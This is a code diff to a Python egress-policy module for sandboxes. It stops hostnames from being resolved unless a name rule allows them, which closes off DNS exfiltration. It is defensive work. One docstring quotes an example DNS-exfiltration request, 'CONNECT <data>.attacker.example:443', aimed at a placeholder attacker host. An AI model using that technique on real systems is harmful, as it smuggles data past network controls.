@@ -6,8 +6,9 @@ traffic and resolves nothing: the caller resolves once, asks, and then connects 
 IP it asked about (never re-resolving), so a name that re-resolves to a private address
 between check and use (DNS rebinding) cannot slip through.
 
-``precheck(plan, host, port)`` denies before any DNS lookup when no rule could allow the
-name, so a denied name is never resolved (no data leaks out through DNS queries).
+``precheck(plan, host, port)`` denies before any DNS lookup unless a name rule allows the
+name (or the default is allow), so a denied name is never resolved: no data leaks out
+through DNS queries, and a CIDR rule admits IP literals only, never names.
 
 Semantics (the single meaning the Docker and Kubernetes backends share):
 
@@ -16,7 +17,11 @@ Semantics (the single meaning the Docker and Kubernetes backends share):
    addresses (``::ffff:10.0.0.1``) are checked as the IPv4 address they carry.
 2. Every resolved IP is checked; the connection is allowed only if **all** of them are
    (one private answer among public ones denies the name).
-3. Per IP: a matching **deny** rule wins (a domain rule matches the name, a CIDR rule the
+3. A name (not an IP literal) is considered at all only when a name rule (exact, wildcard
+   or ``*``) allows it on that port, or the default is allow. A CIDR rule admits IP
+   literals, never names: a sandbox cannot have an arbitrary name resolved (DNS
+   exfiltration) because some CIDR rule matches the port.
+4. Per IP: a matching **deny** rule wins (a domain rule matches the name, a CIDR rule the
    IP; the port must match when the rule names one). Otherwise a matching **allow** rule
    grants it, except that an IP in a *special range* (private, shared/CGNAT, loopback,
    link-local incl. the 169.254.169.254 metadata address, multicast, unspecified,
@@ -167,6 +172,8 @@ def decide(plan: EgressPlan, host: str, port: int, resolved: Sequence[IPAddress 
                 ips.append(ip)
         if not ips:
             return Decision(False, "no address", f"{name} did not resolve to any address")
+        if plan.default != "allow" and not _name_admitted(plan, name, port):
+            return _unnamed(name, port, resolved=True)
     granted: Decision | None = None
     for ip in ips:
         one = _decide_ip(plan, name_for_rules, port, ip)
@@ -180,9 +187,11 @@ def decide(plan: EgressPlan, host: str, port: int, resolved: Sequence[IPAddress 
 def precheck(plan: EgressPlan, host: str, port: int) -> Decision | None:
     """The decision when it needs no DNS lookup, or None when ``host`` must be resolved first.
 
-    IP literals (and invalid requests) are decided fully here. For a name, this is a denial
-    when no rule could allow it, so a proxy calling it before resolving never looks such a
-    name up (no DNS queries, hence no data smuggled out in names).
+    IP literals (and invalid requests) are decided fully here. A name is resolved only when a
+    *name* rule (exact, wildcard or ``*``) allows it on this port, or the plan's default is
+    allow; otherwise it is denied here. A CIDR rule admits IP literals, never an arbitrary
+    name: a proxy calling this before resolving never looks up a name no rule names, so no
+    data leaves in DNS queries (``CONNECT <data>.attacker.example:443`` is refused unresolved).
     """
     name = normalise_host(host)
     if parse_ip(name) is not None or not 0 < port < 65536 or not name:
@@ -190,16 +199,21 @@ def precheck(plan: EgressPlan, host: str, port: int) -> Decision | None:
     for rule in plan.rules:
         if rule.action == "deny" and rule.kind != "cidr" and rule.matches(name, port, None):
             return Decision(False, rule.label(), f"{name}:{port} matches deny rule {rule.label()}")
-    if plan.default == "allow":
+    if plan.default == "allow" or _name_admitted(plan, name, port):
         return None
-    for rule in plan.rules:
-        if rule.action == "allow" and (
-            (rule.kind == "cidr" and rule.port in (None, port)) or rule.matches(name, port, None)
-        ):
-            return None
-    return Decision(
-        False, "default deny", f"{name}:{port} denied: no rule allows it (default deny; not resolved)"
-    )
+    return _unnamed(name, port, resolved=False)
+
+
+def _name_admitted(plan: EgressPlan, name: str, port: int) -> bool:
+    """Whether a name allow rule (exact, wildcard or ``*``) covers ``name:port``."""
+    return any(r.action == "allow" and r.kind != "cidr" and r.matches(name, port, None) for r in plan.rules)
+
+
+def _unnamed(name: str, port: int, *, resolved: bool) -> Decision:
+    """The denial of a name no name rule allows."""
+    when = "" if resolved else "; not resolved"
+    why = f"no name rule allows it, and a CIDR rule admits IP literals only (default deny{when})"
+    return Decision(False, "default deny", f"{name}:{port} denied: {why}")
 
 
 def _decide_ip(plan: EgressPlan, name: str | None, port: int, ip: IPAddress) -> Decision:
